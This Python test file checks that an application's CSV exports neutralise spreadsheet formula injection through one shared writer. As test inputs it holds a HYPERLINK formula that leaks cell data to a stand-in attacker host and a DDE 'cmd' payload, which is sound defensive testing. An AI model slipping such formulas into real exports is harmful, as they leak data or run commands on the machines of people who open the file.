"""Formula injection (OWASP "CSV injection"): every CSV veille writes goes through one writer that
neutralises cells a spreadsheet would run."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import re
from pathlib import Path
from typing import Any

import pytest

from tests.authz_table import ROUTES
from tests.test_authz_matrix import registered_routes
from veille.arctic.services import NewActivity, do_record_activity
from veille.kit.exports import FORMULA_PREFIXES, CsvWriter, safe_cell

SRC = Path(__file__).resolve().parents[2] / "src" / "veille"


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_a_text_cell_that_starts_a_formula_is_written_as_text(prefix: str) -> None:
    out = io.StringIO()
    CsvWriter(out).writerow([f'{prefix}HYPERLINK("http://evil","x")', "plain", decimal.Decimal("-5"), -2])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells[0] == "'" + f'{prefix}HYPERLINK("http://evil","x")'
    assert cells[1:] == ["plain", "-5", "-2"]


def test_values_that_are_not_text_keep_their_form() -> None:
    assert safe_cell(dt.date(2026, 3, 1)) == "2026-03-01"
    assert safe_cell(decimal.Decimal("-1.50")) == "-1.50"
    assert safe_cell(None) is None


def csv_routes() -> list[str]:
    """Every registered route that answers CSV: its pattern names ``.csv``, or the matrix's sample path
    of it (``export.<fmt>`` routes) ends in ``.csv``."""
    names = [
        name
        for name, route in registered_routes().items()
        if ".csv" in route or (name in ROUTES and ROUTES[name].path.split("?")[0].endswith(".csv"))
    ]
    assert names, "no CSV route found"
    return sorted(names)


def test_every_csv_route_has_a_path_in_the_matrix() -> None:
    assert [n for n in csv_routes() if n not in ROUTES] == []


def test_every_csv_export_goes_through_the_shared_writer(client_as: Any) -> None:
    """As the coordinator (who may read every export), each CSV URL answers through CsvWriter."""
    client = client_as("alice")
    checked, failures = 0, []
    for name in csv_routes():
        response = client.get(ROUTES[name].path)
        if response.status_code != 200:
            continue  # (a table that needs data the matrix does not load: its status is the matrix's test)
        checked += 1
        if getattr(response, "veille_csv_writer", None) is not CsvWriter:
            failures.append(f"{name} {ROUTES[name].path}")
    assert checked >= 20
    assert not failures, "CSV exports written without the shared writer:\n  " + "\n  ".join(failures)


def test_no_module_writes_csv_but_the_shared_writer() -> None:
    offenders = [
        str(p.relative_to(SRC))
        for p in SRC.rglob("*.py")
        if p.name != "exports.py"
        and re.search(r"\bcsv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))
    ]
    assert offenders == []


@pytest.mark.parametrize("path", ["/arctic/activities.csv", "/api/v1/arctic/activities.csv"])
def test_an_activity_named_as_a_formula_is_exported_as_text(path: str, actor_of: Any, client_as: Any) -> None:
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
    do_record_activity(
        actor_of("nora"),
        NewActivity(
            key="nor-formula",
            name=name,
            kind="patrol",
            owner_nation="NOR",
            starts_on=dt.date(2026, 3, 1),
            sources=[{"url": "https://example.org/a", "date": "2026-03-01", "title": ""}],
            note="+cmd|' /C calc'!A0",
            releasable_to="PUBLIC",
        ),
    )
    client = client_as(None if path.startswith("/arctic/") else "pawel")
    response = client.get(path)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    row = next(r for r in rows if r["key"] == "nor-formula")
    assert row["name"] == "'" + name
    cells = [c for r in rows for c in r.values() if c]
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]


def _is_number(text: str) -> bool:
    try:
        decimal.Decimal(text)
    except decimal.InvalidOperation:
        return False
    return True
